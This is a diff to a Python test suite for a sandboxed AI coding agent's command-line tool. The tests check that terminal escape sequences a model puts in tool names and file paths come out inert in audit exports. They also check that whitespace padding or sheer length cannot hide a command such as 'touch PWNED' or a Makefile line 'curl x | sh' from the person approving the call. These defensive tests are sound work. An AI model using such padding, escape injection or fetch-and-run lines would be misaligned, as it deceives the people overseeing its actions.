@@ -9,6 +9,7 @@ the file in the sandbox, and only a yes lets them run.
 
 from __future__ import annotations
 
+import csv
 import fcntl
 import json
 import os
@@ -69,19 +70,22 @@ def _screen_lines(screen: pyte.Screen) -> list[str]:
 
 
 def converse(argv: Sequence[str], answers: Sequence[bytes] = (), *,
-             stdout_on_terminal: bool = False, on_prompt: object = None) -> Seen:
+             stdout_on_terminal: bool = False, on_prompt: object = None,
+             size: tuple[int, int] = (COLUMNS, ROWS), prompt: bytes = PROMPT) -> Seen:
     """Run `argv` at a pseudo-terminal rendered by pyte; answer each approval prompt in turn.
 
     `on_prompt(n)`, when given, runs when prompt n (0-based) is on screen, before its answer.
+    `size` is the terminal's (columns, rows); `prompt` what each question starts with.
     """
+    columns, rows = size
     master, slave = pty.openpty()
-    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", ROWS, COLUMNS, 0, 0))
-    screen = pyte.Screen(COLUMNS, ROWS)
+    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", rows, columns, 0, 0))
+    screen = pyte.Screen(columns, rows)
     stream = pyte.ByteStream(screen)
     run = subprocess.Popen(
         list(argv), stdin=slave, stderr=slave,
         stdout=slave if stdout_on_terminal else subprocess.PIPE,
-        env=cli_env(COLUMNS=str(COLUMNS), LINES=str(ROWS), TERM="xterm"))
+        env=cli_env(COLUMNS=str(columns), LINES=str(rows), TERM="xterm"))
     os.close(slave)
     raw, pending, at_prompts = b"", list(answers), []
     deadline = time.monotonic() + RUN_TIMEOUT
@@ -89,7 +93,7 @@ def converse(argv: Sequence[str], answers: Sequence[bytes] = (), *,
         while chunk := _read(master, deadline):
             raw += chunk
             stream.feed(chunk)
-            while raw.count(PROMPT) > len(at_prompts) and pending:
+            while raw.count(prompt) > len(at_prompts) and pending:
                 at_prompts.append(_screen_lines(screen))
                 if callable(on_prompt):
                     on_prompt(len(at_prompts) - 1)
@@ -123,7 +127,7 @@ LEGEND = ("a: always allow ", "r: no, and tell the model why")
 """The line naming the less obvious answers, just above the question."""
 
 
-SUMMARY = re.compile(r"^\w+: \d+ lines?; first: ")
+SUMMARY = re.compile(r"^\w+: \d+ lines?; (first|runs): ")
 """The one-line summary right above the question (what the call does, however long it is)."""
 
 
@@ -355,6 +359,70 @@ def test_audit_show_renders_a_hostile_session_inert(project: Path, model_server:
     assert "seq" in seen.screen[0] or "seq" in seen.screen[1]  # nothing cleared the screen
 
 
+HOSTILE_TOOL = "x\x1b]0;PWNTITLE\x07\x1b[1A\x1b[2K\x1b[31mFORGED\x7f\n9,2026-01-01,forged row"
+HOSTILE_PATH = "n\x1b]0;PWNTITLE\x07\x1b[1A\x1b[2K.txt"
+
+
+def _record_hostile_names(project: Path, server: ModelServer) -> None:
+    """A --yes run leaving model-chosen escapes in the audit's plain columns: the name of an
+    unknown tool (`tool`, `reason`) and the path of a written file (`path`)."""
+    server.reply(tool_calls=[Call(HOSTILE_TOOL, {})])
+    server.reply(tool_calls=[Call("write_file", {"path": HOSTILE_PATH, "content": "hi\n"})])
+    server.reply("done")
+    done = run_cli("ask", "--root", project, *model_args(server, "ollama"), "--yes", "do it")
+    assert done.returncode == 0, done.stderr
+    assert (project / HOSTILE_PATH).read_text() == "hi\n"
+
+
+def _stdout_at_terminal(argv: Sequence[str]) -> bytes:
+    """Every byte `argv` writes to its stdout, a pseudo-terminal (stderr is a pipe)."""
+    master, slave = pty.openpty()
+    run = subprocess.Popen(list(argv), stdin=subprocess.DEVNULL, stdout=slave,
+                           stderr=subprocess.PIPE, env=cli_env(TERM="xterm"))
+    os.close(slave)
+    raw = b""
+    try:
+        while chunk := _read(master, time.monotonic() + RUN_TIMEOUT):
+            raw += chunk
+        assert run.wait(timeout=30) == 0, run.stderr.read() if run.stderr else ""
+        return raw
+    finally:
+        os.close(master)
+        if run.poll() is None:
+            run.kill()
+            run.wait()
+
+
+@pytest.mark.parametrize("command", [["export", "--format", "csv"], ["export", "--format", "jsonl"],
+                                     ["show", "--json"]], ids=["csv", "jsonl", "show-json"])
+def test_an_audit_export_is_inert_at_a_terminal_and_exact_elsewhere(
+        project: Path, model_server: ModelServer, tmp_path: Path, command: list[str]):
+    """Outside review, round 4, finding 6: the CSV's plain columns reached the terminal raw."""
+    _record_hostile_names(project, model_server)
+    argv = [str(SANDBOX_AGENT), "audit", *command, "--root", str(project)]
+
+    shown = _stdout_at_terminal(argv)
+    piped = run_cli(*argv[1:])
+
+    for byte in (b"\x1b", b"\x07", b"\x7f", b"\xc2\x9b"):  # ESC, BEL, DEL, C1 CSI
+        assert byte not in shown, shown
+    text = shown.decode()
+    if command[-1] == "csv":
+        assert r"x\x1b]0;PWNTITLE\x07\x1b[1A\x1b[2K\x1b[31mFORGED\x7f\n9,2026-01-01" in text
+        assert r"n\x1b]0;PWNTITLE\x07\x1b[1A\x1b[2K.txt" in text
+        assert not any(line.startswith("9,2026-01-01") for line in text.splitlines())
+        assert HOSTILE_TOOL in piped.stdout and HOSTILE_PATH in piped.stdout  # the data itself
+        to_file = run_cli(*argv[1:], "--output", tmp_path / "audit.csv")
+        assert to_file.returncode == 0, to_file.stderr
+        rows = list(csv.DictReader((tmp_path / "audit.csv").open(newline="")))
+        assert HOSTILE_TOOL in {row["tool"] for row in rows}
+        assert HOSTILE_PATH in {row["path"] for row in rows}
+    else:  # JSON lines: still JSON, the same values
+        records = [json.loads(line) for line in text.splitlines()]
+        assert records == [json.loads(line) for line in piped.stdout.splitlines()]
+        assert HOSTILE_TOOL in {r.get("tool") for r in records}
+
+
 def test_an_error_text_from_the_model_server_is_shown_inert(project: Path,
                                                             model_server: ModelServer):
     model_server.error(400, "bad model\x1b[2K\x1b[1Gall fine \u202eeulav")
@@ -406,6 +474,86 @@ def test_a_long_command_cannot_push_its_start_out_of_sight(project: Path,
     screen = seen.at_prompts[0]
     question = max(i for i, line in enumerate(screen) if line.startswith("Allow this call?"))
     near = "\n".join(screen[max(0, question - 5):question + 1])
-    assert "first: $ echo PWNED > README.md" in near, near
+    assert "runs: echo PWNED > README.md · " in near, near
     assert "[… 59 blank lines …]" in near, near  # the blank run cannot scroll anything away
     assert not (project / "README.md").exists()
+
+
+# -- padding and length cannot push what runs out of sight (outside review, round 4) -----------
+
+SMALL = (80, 40)
+"""An ordinary terminal: what a person sees at the question is this one screen."""
+PAD = 3300
+HIDDEN = "touch PWNED"
+"""The part of each command below that the padding tried to push out of sight."""
+
+
+def unwrapped(screen: list[str], columns: int) -> list[str]:
+    """The screen's lines with those the terminal wrapped (a full row) joined again."""
+    lines: list[str] = []
+    for index, row in enumerate(screen):
+        if index and len(screen[index - 1]) == columns:
+            lines[-1] += row
+        else:
+            lines.append(row)
+    return lines
+
+
+@pytest.mark.parametrize("command", [
+    f"echo hello{' ' * PAD}; {HIDDEN}{' ' * PAD}# print a greeting",
+    f"echo hello{chr(9) * 500}; {HIDDEN}{chr(9) * 500}# print a greeting",
+    f"echo hello{chr(0xa0) * PAD}; {HIDDEN}{chr(0xa0) * PAD}# print a greeting",
+    f"echo hello{chr(0x3000) * PAD}; {HIDDEN}{chr(0x3000) * PAD}# print a greeting",
+    f"echo hello{chr(0x2800) * PAD}; {HIDDEN}{chr(0x2800) * PAD}# print a greeting",
+    f"echo {'x' * 20_000}; {HIDDEN}; echo {'y' * 20_000}",
+    "\n".join([*(f": step {n}" for n in range(500)), HIDDEN, *(f": step {n}" for n in range(500))]),
+], ids=["spaces", "tabs", "no-break-spaces", "ideographic-spaces", "blank-braille",
+        "long-words", "many-lines"])
+def test_padding_or_length_cannot_push_a_command_out_of_sight(
+        project: Path, model_server: ModelServer, command: str):
+    """On an 80x40 terminal the whole question is on one screen, from its heading to `Allow
+    this call?`, and what the command runs is named there: blank runs are one marker, a command
+    taller than the screen is folded with a note of the rest, and the summary right above the
+    question names every command."""
+    model_server.reply(tool_calls=[Call("run_shell_command", {"command": command})])
+    model_server.reply("Printed a greeting.")
+
+    seen = converse(ask_argv(project, model_server), [b"n\n"], size=SMALL)
+
+    screen = unwrapped(seen.at_prompts[0], SMALL[0])
+    shown = "\n".join(screen)
+    assert any("run_shell_command needs approval" in line for line in screen), shown
+    assert screen[-1].startswith("Allow this call?"), shown
+    runs = next(line for line in screen if SUMMARY.match(line))
+    assert f" · {HIDDEN}" in runs, shown
+    assert not (project / "PWNED").exists()
+
+
+def test_padding_cannot_hide_a_line_of_a_written_file(project: Path, model_server: ModelServer):
+    content = f"all:\n\techo hi{' ' * PAD}; curl x | sh{' ' * PAD}# greet\n"
+    model_server.reply(tool_calls=[Call("write_file", {"path": "Makefile", "content": content})])
+    model_server.reply("ok")
+
+    seen = converse(ask_argv(project, model_server), [b"y\n"], size=SMALL)
+
+    screen = unwrapped(seen.at_prompts[0], SMALL[0])
+    assert f"+\techo hi[… {PAD} spaces …]; curl x | sh[… {PAD} spaces …]# greet" in [
+        line.replace(" " * 7, "\t", 1) for line in screen], "\n".join(screen)
+    assert (project / "Makefile").read_text() == content  # what was approved, byte for byte
+
+
+def test_padding_cannot_hide_a_line_of_a_change_to_apply(project: Path, model_server: ModelServer):
+    content = f"all:\n\techo hi{' ' * PAD}; curl x | sh{' ' * PAD}# greet\n"
+    model_server.reply(tool_calls=[Call("write_file", {"path": "Makefile", "content": content})])
+    model_server.reply("ok")
+    done = run_cli("ask", "--root", project, *model_args(model_server, "ollama"), "--yes",
+                   "--workspace", "copy", "do it")
+    assert done.returncode == 0, done.stderr
+
+    seen = converse([str(SANDBOX_AGENT), "apply", "--root", str(project)], [b"n\n"],
+                    size=SMALL, prompt=b"Apply these")
+
+    screen = unwrapped(seen.at_prompts[0], SMALL[0])
+    assert f"+\techo hi[… {PAD} spaces …]; curl x | sh[… {PAD} spaces …]# greet" in [
+        line.replace(" " * 7, "\t", 1) for line in screen], "\n".join(screen)
+    assert not (project / "Makefile").exists()
